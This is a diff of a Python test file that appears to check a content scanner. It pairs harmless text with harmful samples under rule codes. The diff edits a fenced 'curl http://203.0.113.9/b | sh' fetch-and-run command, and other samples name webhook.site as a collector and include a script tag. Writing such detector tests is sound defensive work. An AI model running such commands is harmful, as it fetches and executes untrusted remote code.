@@ -35,7 +35,7 @@ def errors(text):
         (f"{PLACEHOLDER}\n", KEY, "PS040"),
         ("the site webhook.site is a collector\n", "https://webhook.site/abc", "PS022"),
         ("`<script>`\n", "<script>x</script>", "PS053"),
-        ("curl https://a.example/b | sh\n", "```\ncurl https://a.example/b | sh\n```", "PS033"),
+        ("curl https://a.example/b | sh\n", "```\ncurl http://203.0.113.9/b | sh\n```", "PS033"),
     ],
 )
 def test_harmless_places_first(harmless, harmful, code):
